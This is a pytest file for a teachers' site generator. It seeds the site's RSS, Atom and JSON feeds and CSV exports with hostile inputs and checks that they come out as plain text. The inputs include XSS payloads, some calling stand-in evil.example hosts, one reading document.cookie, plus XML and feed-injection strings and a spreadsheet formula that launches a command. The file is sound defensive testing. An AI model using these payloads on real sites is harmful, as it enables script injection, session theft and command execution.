"""Teachers' text in feeds and CSV files reaches readers and spreadsheets as the text typed.

One scratch site holds an entry per hostile payload (as its title, summary and author's
name). Its RSS, Atom and JSON feeds are read the way readers read them: with feedparser,
and, for RSS, whose titles and descriptions readers take for HTML, by decoding the XML
once and reading the result as HTML. Its CSV files are read as a spreadsheet would.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import feedparser
import pytest

from tests.conftest import VALID_ENTRY, ScratchProject, build_scratch_site

THAI_TITLE = "ชุดกิจกรรมพัฒนาการอ่านจับใจความ"
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)")
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://tracker.example/p.gif">',
    "<svg onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<a href="javascript:alert(1)">คลิก</a>',
    "<body onload=alert(1)>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<object data="x.swf"></object>',
    "<embed src=x.swf>",
    "<form action=//evil.example><input name=p></form>",
    '<base href="https://evil.example/">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<b>ตัวหนา</b> และ <i>ตัวเอียง</i>",
    "<!-- ความเห็น -->",
    "<![CDATA[x]]>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</description></item><item><title>ปลอม",
    '<?xml version="1.0"?>',
    '<!DOCTYPE x [<!ENTITY e "boom">]>&e;',
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;iframe&#62; &#x3C;meta&#x3E;",
    "&nbsp;&copy;&bogus; &amp",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "\"คำพูด\" และ 'อัญประกาศเดี่ยว'",
    "javascript:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "Tom & Jerry < 3 > 2",
    'ชื่อ <b>ไทย</b> & "คำพูด" ;',
    *FORMULAS,
)


class HTMLText(HTMLParser):
    """What a reader shows for an HTML fragment: its text, and any markup it would make."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.markup: list[str] = []
        self.feed(fragment)
        self.close()

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_starttag(self, tag, attrs) -> None:
        self.markup.append(f"<{tag}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag) -> None:
        self.markup.append(f"</{tag}>")

    def handle_comment(self, data) -> None:
        self.markup.append("<!--")

    def handle_decl(self, decl) -> None:
        self.markup.append("<!")

    def handle_pi(self, data) -> None:
        self.markup.append("<?")

    def unknown_decl(self, data) -> None:
        self.markup.append("<![")


def shown_as_html(fragment: str) -> str:
    """The text a reader shows for `fragment` read as HTML; fails if it makes markup."""
    parsed = HTMLText(fragment)
    assert parsed.markup == [], (fragment, parsed.markup)
    return "".join(parsed.text)


def shown(detail) -> str:
    """What a reader shows for a value feedparser parsed (HTML, or plain text)."""
    return shown_as_html(detail.value) if detail.type == "text/html" else detail.value


def starts_formula(cell: str) -> bool:
    """Whether a spreadsheet would take a CSV cell for a formula (a number is a number)."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"-\d+", cell)


def _quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a YAML scalar


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    project = ScratchProject(tmp_path_factory.mktemp("hostile-feeds"))
    project.entry("thai-kit")
    for number, payload in enumerate(PAYLOADS):
        content = (
            VALID_ENTRY.replace(f"title: {THAI_TITLE}", f"title: {_quoted(payload)}")
            .replace("  - name: นางสาวกมลวรรณ ใจดี", f"  - name: {_quoted(payload)}")
            .replace(
                "summary: ชุดกิจกรรมช่วยให้นักเรียนอ่านจับใจความได้ดีขึ้น",
                f"summary: {_quoted(payload)}",
            )
        )
        if payload in FORMULAS:
            content = content.replace("keywords: [การอ่าน]", f"keywords: [{_quoted(payload)}]")
            content = content.replace("  name: โรงเรียนบ้านโคกสำโรง", f"  name: {_quoted(payload)}")
        project.entry(f"payload-{number:02d}", content)
    result = build_scratch_site(project)
    assert result.returncode == 0, result.stdout + result.stderr
    return project.root / "site"


def _payload_of(link: str) -> str | None:
    slug = link.rstrip("/").rsplit("/", 1)[-1]
    return PAYLOADS[int(slug.removeprefix("payload-"))] if slug.startswith("payload-") else None


def test_rss_titles_and_descriptions_show_the_text_typed_and_make_no_markup(hostile_site):
    raw = (hostile_site / "feeds/rss.xml").read_bytes()
    channel = ET.fromstring(raw).find("channel")
    shown_as_html(channel.findtext("title"))
    shown_as_html(channel.findtext("description"))
    items = channel.findall("item")
    assert len(items) == len(PAYLOADS) + 1
    seen = set()
    for item in items:
        payload = _payload_of(item.findtext("link"))
        if payload is None:
            continue
        seen.add(payload)
        # A reader decodes the XML once, then reads title and description as HTML.
        assert shown_as_html(item.findtext("title")) == payload
        assert shown_as_html(item.findtext("description")) == payload
    assert seen == set(PAYLOADS)

    feed = feedparser.parse(raw)
    assert not feed.bozo and feed.version == "rss20"
    for entry in feed.entries:
        payload = _payload_of(entry.link)
        if payload is not None:
            assert shown(entry.title_detail) == payload
            assert shown(entry.summary_detail) == payload


def test_atom_and_json_feed_carry_titles_summaries_and_authors_as_plain_text(hostile_site):
    atom = feedparser.parse((hostile_site / "feeds/atom.xml").read_bytes())
    assert not atom.bozo and atom.version == "atom10"
    assert len(atom.entries) == len(PAYLOADS) + 1
    for entry in atom.entries:
        payload = _payload_of(entry.link)
        if payload is not None:
            assert entry.title_detail.type == entry.summary_detail.type == "text/plain"
            assert (entry.title, entry.summary, entry.author) == (payload, payload, payload)

    # feedparser 6 reads no JSON Feed; JSON Feed 1.1's title, summary, content_text and
    # author names are plain text by the spec.
    feed = json.loads((hostile_site / "feeds/feed.json").read_text(encoding="utf-8"))
    for item in feed["items"]:
        payload = _payload_of(item["url"])
        if payload is not None:
            assert item["title"] == item["summary"] == item["content_text"] == payload
            assert [a["name"] for a in item["authors"]] == [payload]
            assert "content_html" not in item


def test_a_thai_title_reads_normally_in_every_feed(hostile_site):
    raw = (hostile_site / "feeds/rss.xml").read_text(encoding="utf-8")
    assert f"<title>{THAI_TITLE}</title>" in raw
    for name in ("rss.xml", "atom.xml"):
        feed = feedparser.parse((hostile_site / "feeds" / name).read_bytes())
        titles = [e.title for e in feed.entries if e.link.endswith("/thai-kit/")]
        assert titles == [THAI_TITLE], name
    feed = json.loads((hostile_site / "feeds/feed.json").read_text(encoding="utf-8"))
    assert [i["title"] for i in feed["items"] if i["url"].endswith("/thai-kit/")] == [THAI_TITLE]


def test_no_csv_cell_of_the_site_starts_a_spreadsheet_formula(hostile_site):
    files = sorted((hostile_site / "data").rglob("*.csv"))
    assert hostile_site / "data/innovations.csv" in files and len(files) > 5
    for path in files:
        text = path.read_bytes().decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not starts_formula(cell), (path, cell)

    text = (hostile_site / "data/innovations.csv").read_bytes().decode("utf-8-sig")
    rows = {r["title"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    for formula in FORMULAS:
        row = rows[f"'{formula}"]
        assert row["summary"] == row["authors"] == row["school"] == row["keywords"]
        assert row["summary"] == f"'{formula}"
        assert row["year"] == "2567" and row["attachment_count"] == "0"  # numbers stay numbers
    records = json.loads((hostile_site / "data/innovations.json").read_text(encoding="utf-8"))
    assert set(FORMULAS) <= {r["title"] for r in records}  # JSON keeps the text as typed
